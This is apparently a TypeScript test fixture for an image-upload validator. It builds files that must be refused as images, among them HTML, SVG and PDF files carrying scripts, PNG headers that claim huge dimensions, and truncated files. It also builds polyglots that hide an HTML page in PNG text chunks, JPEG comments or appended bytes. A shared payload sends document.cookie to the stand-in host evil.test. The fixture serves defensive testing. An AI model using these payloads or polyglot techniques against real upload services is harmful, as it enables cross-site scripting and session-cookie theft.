import { deflateSync } from "node:zlib";
import { drawImage } from "../media/images.ts";

type Bytes = Uint8Array<ArrayBuffer>;

const text = (words: string): Bytes => new TextEncoder().encode(words);

export function joined(...parts: (Uint8Array | string)[]): Bytes {
  const all = parts.map((part) => (typeof part === "string" ? text(part) : part));
  const bytes = new Uint8Array(all.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of all) {
    bytes.set(part, at);
    at += part.length;
  }
  return bytes;
}

const SCRIPT = "<html><body><script>fetch('//evil.test/?'+document.cookie)</script></body></html>";
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;
const SIGNATURE = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A PNG that says how large it is in its header, with next to nothing behind it. */
function pngOf(width: number, height: number): Bytes {
  const bytes = new Uint8Array(33);
  bytes.set(SIGNATURE);
  bytes.set([0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52], 8);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  bytes.set([8, 2, 0, 0, 0], 24);
  return joined(bytes, deflateSync(new Uint8Array(64)));
}

const ZIP = `PK\x03\x04${"\0".repeat(26)}`;

/** Files that are not images, whatever they begin with, end with or are called. All of them are refused by their bytes. */
export const NO_IMAGES: Record<string, () => Bytes | Promise<Bytes>> = {
  "a page": () => text(SCRIPT),
  "an SVG with a script": () => text(SVG),
  "an SVG behind spaces": () => text(`${" ".repeat(512)}${SVG}`),
  "a PDF with a script": () => text("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"),
  "a ZIP with a PNG behind it": async () => joined(ZIP, await drawImage()),
  "a page with a PNG behind it": async () => joined(SCRIPT, await drawImage()),
  "a PDF with a JPEG behind it": async () => joined("%PDF-1.7\n", await drawImage("jpeg")),
  "one byte before a PNG": async () => joined("\n", await drawImage()),
  "a GIF that is a script": () => text("GIF89a/*\x01\x00\x01\x00*/=1;alert(1);//"),
  "an AVIF": () => joined(new Uint8Array([0, 0, 0, 28]), "ftypavif", new Uint8Array(60)),
  "a whole MP4's beginning": () =>
    joined(new Uint8Array([0, 0, 0, 24]), "ftypisom", new Uint8Array([0, 0, 2, 0]), "isomiso2"),
  "a PNG of 16,385 × 1": () => pngOf(16_385, 1),
  "a PNG of 4,294,967,295 × 4,294,967,295": () => pngOf(0xffffffff, 0xffffffff),
  "a PNG cut within its header": async () => (await drawImage()).slice(0, 30),
  "the signature of PNG, then a page": () => joined(SIGNATURE, SCRIPT),
  "a PNG with its line ends turned": async () =>
    joined(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0a, 0x0a, 0x1a, 0x0a]), (await drawImage()).slice(8)),
  "a JPEG cut before its frame": async () => (await drawImage("jpeg")).slice(0, 12),
  "the start of a JPEG, then a page": () => joined(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), SCRIPT),
  "RIFF that says WEBP, then a page": () => joined("RIFF", new Uint8Array([4, 0, 0, 0]), "WEBP", SCRIPT),
};

/** Browsers show these in part. */
export const CUT_OFF: Record<string, () => Promise<Bytes>> = {
  "a PNG cut in the middle of its picture": async () => (await drawImage()).slice(0, 90),
  "a PNG that ends early": async () => (await drawImage()).slice(0, -20),
};

/** Images to every reader of images, and something else to another reader: the image, and both. */
export const POLYGLOTS: Record<string, () => Promise<[kind: "png" | "jpeg" | "webp", image: Bytes, both: Bytes]>> = {
  "a PNG with a page behind it": () => behind("png", SCRIPT),
  "a PNG with a script in a text chunk": async () => {
    const image = await drawImage();
    const chunk = joined(new Uint8Array([0, 0, 0, SCRIPT.length]), "tEXt", SCRIPT, new Uint8Array(4));
    return ["png", image, joined(image.slice(0, 33), chunk, image.slice(33))];
  },
  "a JPEG with a page in its comment": async () => {
    const image = await drawImage("jpeg");
    const length = SCRIPT.length + 2;
    const comment = joined(new Uint8Array([0xff, 0xfe, length >> 8, length & 255]), SCRIPT);
    return ["jpeg", image, joined(image.slice(0, 2), comment, image.slice(2))];
  },
  "a JPEG with a script behind it": () => behind("jpeg", "*/=1;alert(1)"),
  "a WebP with a page behind it": () => behind("webp", SCRIPT),
};

async function behind<Kind extends "png" | "jpeg" | "webp">(
  kind: Kind,
  other: Bytes | string,
): Promise<[Kind, Bytes, Bytes]> {
  const image = await drawImage(kind);
  return [kind, image, joined(image, other)];
}
